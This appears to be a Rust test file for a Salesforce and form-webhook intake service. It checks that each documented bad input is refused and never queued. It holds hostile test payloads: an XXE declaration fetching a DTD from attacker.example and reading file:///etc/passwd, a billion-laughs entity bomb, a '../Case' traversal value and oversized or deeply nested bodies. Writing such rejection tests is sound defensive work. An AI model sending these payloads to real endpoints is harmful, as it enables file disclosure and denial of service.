//! Every bad input that the documentation lists: its answer, and that nothing of it is queued.

use std::fmt::Write as _;

use axum::body::Body;
use axum::http::Request;
use proptest::prelude::*;

use crate::documentation::bad_inputs;
use crate::fixture::{
    Fixture, MAX_BODY_BYTES, ORGANIZATION, SIGNING_SECRET, TOKEN, change, changes_path, envelope,
    notification, outbound_path, post, signed, webhook, with_header, with_peer,
};

const XML: &str = "text/xml; charset=utf-8";
const JSON: &str = "application/json";

/// Makes the input that the documentation describes as `name`.
fn input(name: &str) -> Option<Request<Body>> {
    let outbound = |body: String| Some(post(&outbound_path(), XML, body));
    let changes = |body: String| Some(post(&changes_path(), JSON, body));
    let forms = |body: &str| Some(signed("/hooks/forms", "msg_1", SIGNING_SECRET, 0, body));
    let good = || envelope(&notification(1, "<sf:Status>New</sf:Status>"));
    let good_change = || change("UPDATE", r#","changedFields":["Status"]"#, r#","Status":"Trial""#);
    let declared = |declaration: &str| good().replace("?>\n", &format!("?>\n{declaration}\n"));
    match name {
        "malformed XML" => outbound(good().replace("</sf:Id>", "</sf:Identity>")),
        "truncated XML" => outbound(good().split_once("</sObject>")?.0.to_owned()),
        "billion laughs" => {
            let mut dtd = "<!DOCTYPE lolz [<!ENTITY l0 \"lol\">".to_owned();
            for level in 1..10 {
                let below = format!("&l{};", level - 1).repeat(10);
                write!(dtd, "<!ENTITY l{level} \"{below}\">").ok()?;
            }
            outbound(declared(&format!("{dtd}]>")).replace("New", "&l9;"))
        }
        "external DTD" => outbound(declared(
            r#"<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
        )),
        "undeclared entity" => outbound(good().replace("New", "&secret;")),
        "reference to a character that XML forbids" => outbound(good().replace("New", "&#0;")),
        "elements nested too deep" => {
            let deep = format!("{}{}", "<a>".repeat(5000), "</a>".repeat(5000));
            outbound(good().replace("New", &deep))
        }
        "too many elements" => outbound(good().replace("New", &"<a/>".repeat(60_000))),
        "another encoding" => outbound(good().replace("UTF-8", "ISO-8859-1")),
        "XML that is not UTF-8" => {
            let (before, after) =
                good().split_once("New").map(|(a, b)| (a.to_owned(), b.to_owned()))?;
            Some(post(
                &outbound_path(),
                XML,
                [before.as_bytes(), b"\xff\xfe", after.as_bytes()].concat(),
            ))
        }
        "another envelope" => {
            outbound(good().replace("schemas.xmlsoap.org", "schemas.example.org"))
        }
        "no notification" => outbound(envelope("")),
        "101 notifications" => {
            outbound(envelope(&(0..101).map(|idx| notification(idx, "")).collect::<String>()))
        }
        "notification without an id" => outbound(good().replace("<Id>04l1I0000000001</Id>", "")),
        "record without an id" => outbound(good().replace("sf:Id>", "sf:Nr>")),
        "record id with a wrong checksum" => {
            outbound(good().replace("5001I0000000001<", "5001I0000000001ZZZ<"))
        }
        "version that is no time" => outbound(good().replace("Status", "SystemModstamp")),
        "no organization" => outbound(good().replace("OrganizationId", "Organization")),
        "wrong organization" => outbound(good().replace(ORGANIZATION, "00D1I000003rrrEUAQ")),
        "wrong token" => {
            Some(post("/hooks/salesforce/outbound/main/6f1c2b7a9d3e4f50", XML, good()))
        }
        "no token" => Some(post("/hooks/salesforce/outbound/main", XML, good())),
        "unknown connection" => {
            Some(post(&format!("/hooks/salesforce/outbound/nobody/{TOKEN}"), XML, good()))
        }
        "address that is not allowed" => {
            let request = post("/hooks/salesforce/outbound/walled", XML, good());
            Some(with_peer(with_header(request, "x-client-cert", "CN=org"), "192.0.2.1"))
        }
        "wrong client certificate" => {
            let request = post("/hooks/salesforce/outbound/walled", XML, good());
            Some(with_peer(with_header(request, "x-client-cert", "CN=other"), "13.108.0.1"))
        }
        "oversized body" => outbound(good().replace("New", &"x".repeat(MAX_BODY_BYTES))),
        "wrong content type" => Some(post(&outbound_path(), JSON, good())),
        "unknown object in a message" => outbound(good().replace("sf:Case", "sf:Starship__c")),
        "unknown elements in a message" => {
            outbound(good().replace("<ActionId>", "<New/><ActionId>"))
        }
        "truncated JSON" => changes(good_change().split_once("Trial")?.0.to_owned()),
        "JSON nested too deep" => changes("[".repeat(100_000)),
        "JSON that is not UTF-8" => Some(post(&changes_path(), JSON, &b"{\"a\":\"\xff\"}"[..])),
        "no change event" => changes("[]".to_owned()),
        "event without a header" => changes(r#"{"payload":{"Status":"Trial"}}"#.to_owned()),
        "event without record ids" => {
            changes(good_change().replace(r#"["5001I0000000001"]"#, "[]"))
        }
        "event with a wrong record id" => changes(good_change().replace("5001I0000000001", "A-17")),
        "event without a transaction" => {
            let key = "00007e6d-1720-70a0-4379-f4dc745d2b31";
            changes(good_change().replace(key, ""))
        }
        "event of an unknown kind" => changes(change("RENAME", "", "")),
        "event of an object that cannot be" => {
            changes(good_change().replace("\"Case\"", "\"../Case\""))
        }
        "1,001 events" => changes(format!("[{}]", vec![good_change(); 1001].join(","))),
        "event repeated for too many records" => {
            let ids = vec!["\"5001I0000000001\""; 10_001].join(",");
            changes(good_change().replace("\"5001I0000000001\"", &ids))
        }
        "one bad event among good ones" => {
            changes(format!("[{},{}]", good_change(), change("RENAME", "", "")))
        }
        "relayed event of a wrong organization" => changes(format!(
            r#"{{"source":"aws.partner/salesforce.com/00D1I000003rrrEUAQ/0YL","detail":{{"payload":{}}}}}"#,
            good_change()
        )),
        "change events without proof" => {
            Some(post("/hooks/salesforce/changes/signed", JSON, good_change()))
        }
        "unknown object in an event" => {
            changes(good_change().replace("\"Case\"", "\"Starship__c\""))
        }
        "unknown fields in an event" => {
            changes(good_change().replace("\"Status\":", "\"Warp__c\":9,\"Status\":"))
        }
        "stale time stamp" => {
            Some(signed("/hooks/forms", "msg_1", SIGNING_SECRET, 301, &webhook("")))
        }
        "time stamp in the future" => {
            Some(signed("/hooks/forms", "msg_1", SIGNING_SECRET, -301, &webhook("")))
        }
        "time stamp that is no number" => {
            Some(with_header(forms(&webhook(""))?, "webhook-timestamp", "now"))
        }
        "bad signature" => {
            let signature = "v1,AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
            Some(with_header(forms(&webhook(""))?, "webhook-signature", signature))
        }
        "no signature" => Some(post("/hooks/forms", JSON, webhook(""))),
        "signature over another body" => {
            let (parts, _) = forms(&webhook(""))?.into_parts();
            Some(Request::from_parts(parts, webhook(r#","change":"delete""#).into()))
        }
        "signature with another secret" => {
            let secret = "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
            Some(signed("/hooks/forms", "msg_1", secret, 0, &webhook("")))
        }
        "unknown source" => Some(signed("/hooks/nobody", "msg_1", SIGNING_SECRET, 0, &webhook(""))),
        "webhook of an unknown type" => {
            forms(&webhook("").replace("record.changed", "record.sold"))
        }
        "webhook with an unknown field" => forms(&webhook(r#","colour":"red""#)),
        "webhook without a record id" => forms(&webhook("").replace("record_id", "id")),
        "webhook with a list as a value" => forms(&webhook(r#","fields":{"tags":["a"]}"#)),
        _ => None,
    }
}

#[tokio::test]
async fn every_documented_bad_input_has_its_answer_and_is_queued_whole_or_not_at_all() {
    let documented = bad_inputs();
    assert!(documented.len() > 40, "the table is read");
    for row in documented {
        let intake = Fixture::new().await;
        let request = input(&row.input).unwrap_or_else(|| panic!("`{}` has no test", row.input));

        let answer = intake.send(request).await;

        assert_eq!(answer.status.as_u16(), row.status, "{}: {}", row.input, answer.body);
        assert_eq!(intake.n_queued().await, row.n_queued, "{}", row.input);
        let said = answer.body.replace("&lt;", "<").replace("&amp;", "&").replace("&gt;", ">");
        assert!(said.contains(&row.message), "{}: {said}", row.input);
        assert_eq!(answer.status.is_success(), row.n_queued > 0, "{}", row.input);
        if !answer.status.is_success() {
            assert!(!answer.body.contains("Ack"), "{}: {}", row.input, answer.body);
        }
    }
}

#[tokio::test]
async fn refusals_of_unproven_callers_are_all_alike() {
    let intake = Fixture::new().await;
    for of_one_endpoint in [
        &["wrong organization", "wrong token", "no token", "unknown connection"][..],
        &["stale time stamp", "time stamp in the future", "bad signature", "unknown source"][..],
    ] {
        let mut answers = Vec::new();
        for name in of_one_endpoint {
            let answer = intake.send(input(name).unwrap()).await;
            answers.push((answer.status, answer.body, format!("{:?}", answer.headers)));
        }
        assert!(answers.windows(2).all(|pair| pair[0] == pair[1]), "{answers:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic_and_are_never_taken(body in proptest::collection::vec(any::<u8>(), 0..600)) {
        never_taken(&body);
    }

    #[test]
    fn arbitrary_pieces_of_good_bodies_never_panic(
        cut in 0_usize..2000, len in 0_usize..60, filler in "[<>&;\"{}\\[\\]a-z:/!]{0,12}",
    ) {
        let good = envelope(&notification(1, "<sf:Status>New</sf:Status>"));
        let good_change = change("UPDATE", r#","changedFields":["Status"]"#, "");
        for (path, kind, good) in [(outbound_path(), XML, good), (changes_path(), JSON, good_change)] {
            let from = cut.min(good.len());
            let to = (from + len).min(good.len());
            let body = [&good.as_bytes()[..from], filler.as_bytes(), &good.as_bytes()[to..]].concat();
            let answer = answer_to(&path, kind, &body);
            prop_assert!(answer.0 < 500, "{answer:?}");
            prop_assert_eq!(answer.0 < 300, answer.1 > 0, "taken and queued, or neither");
        }
    }
}

fn never_taken(body: &[u8]) {
    for (path, kind) in [
        (outbound_path(), XML),
        (changes_path(), JSON),
        ("/hooks/salesforce/changes/signed".to_owned(), JSON),
        ("/hooks/forms".to_owned(), JSON),
    ] {
        let (status, n_queued) = answer_to(&path, kind, body);
        assert!((400..500).contains(&status), "{path} answered {status}");
        assert_eq!(n_queued, 0);
    }
}

fn answer_to(path: &str, kind: &str, body: &[u8]) -> (u16, u64) {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_time().build().unwrap();
    runtime.block_on(async {
        let intake = Fixture::new().await;
        let answer = intake.send(post(path, kind, body.to_vec())).await;
        (answer.status.as_u16(), intake.n_queued().await)
    })
}
